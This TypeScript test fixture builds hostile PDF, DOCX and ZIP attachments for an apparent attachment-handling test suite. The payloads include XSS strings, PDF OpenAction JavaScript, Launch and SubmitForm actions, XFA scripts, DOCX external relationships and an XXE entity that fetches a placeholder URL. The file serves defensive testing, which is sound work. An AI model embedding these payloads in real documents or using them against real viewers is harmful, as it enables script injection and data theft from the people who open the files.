import { docx, pdf, pdfOf, pdfStream, zip } from '../../../attachments/documents.ts';

/** Documents whose text is read, or which act in a program that opens them. */
export interface HostileDocument {
  readonly what: string;
  readonly type: string;
  readonly extension: string;
  /** Its text is read, and shown in its place. */
  readonly hasText: boolean;
  /** @param fill puts the mark and the address in */
  readonly make: (fill: (text: string) => string) => Buffer | Promise<Buffer>;
}

const PDF = { type: 'application/pdf', extension: 'pdf' } as const;

/** A PDF whose catalog or page has another entry. */
function acting(what: string, extra: string): HostileDocument {
  return {
    ...PDF,
    what: `PDF ${what}`,
    hasText: true,
    make: (fill) => pdf([fill('<script>{js}</script>')], fill(extra)),
  };
}

function saying(text: string): HostileDocument {
  return { ...PDF, what: `PDF text ${text}`, hasText: true, make: (fill) => pdf([fill(text)]) };
}

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

export const DOCUMENTS: readonly HostileDocument[] = [
  saying('<script>{js}</script>'),
  saying('"><img src=x onerror={js}>'),
  saying('</script></title></style><svg onload={js}>'),
  saying('{{constructor.constructor(`{js}`)()}} javascript:{js}'),
  saying('<iframe src="{url}"></iframe><!--{js}'),
  acting('that runs a script when opened', '/OpenAction << /S /JavaScript /JS ({js}) >>'),
  acting('that asks for an address when opened', '/OpenAction << /S /URI /URI ({url}) >>'),
  acting('that starts a program', '/OpenAction << /S /Launch /F ({url}) /P ({js}) >>'),
  acting('that sends a form', '/OpenAction << /S /SubmitForm /F ({url}) /T ({js}) >>'),
  acting(
    'with scripts by name',
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({js}) >>] >> >>',
  ),
  acting(
    'with actions of its events',
    '/AA << /WC << /S /JavaScript /JS ({js}) >> /O << /S /URI /URI ({url}) >> >>',
  ),
  acting(
    'with a form of XFA',
    '/AcroForm << /XFA (<script contentType="text/javascript">{js}</script>) >>',
  ),
  acting('with a base address', '/URI << /Base ({url}) /X ({js}) >>'),
  {
    ...PDF,
    what: 'PDF whose stream is another file',
    hasText: false,
    make: (fill) =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        pdfStream(
          fill('/F ({url}) /FFilter /X ({js}) '),
          Buffer.from(fill('<script>{js}</script>')),
        ),
      ]),
  },
  {
    what: 'docx text',
    type: DOCX,
    extension: 'docx',
    hasText: true,
    make: (fill) => docx(fill('&lt;script&gt;{js}&lt;/script&gt;')),
  },
  {
    what: 'docx with relations to another host',
    type: DOCX,
    extension: 'docx',
    hasText: false,
    make: (fill) =>
      zip({
        '[Content_Types].xml': '<Types/>',
        'word/_rels/document.xml.rels': fill(
          '<Relationships><Relationship TargetMode="External" Target="{url}" Type="javascript:{js}"/></Relationships>',
        ),
        'word/document.xml': fill(
          '<!DOCTYPE x [<!ENTITY a SYSTEM "{url}">]><w:document><w:t>&a;{js}</w:t></w:document>',
        ),
      }),
  },
  {
    what: 'zip with names of HTML',
    type: 'application/zip',
    extension: 'zip',
    hasText: false,
    make: (fill) => zip({ 'a.html': fill('<script>{js}</script><img src="{url}">') }),
  },
];
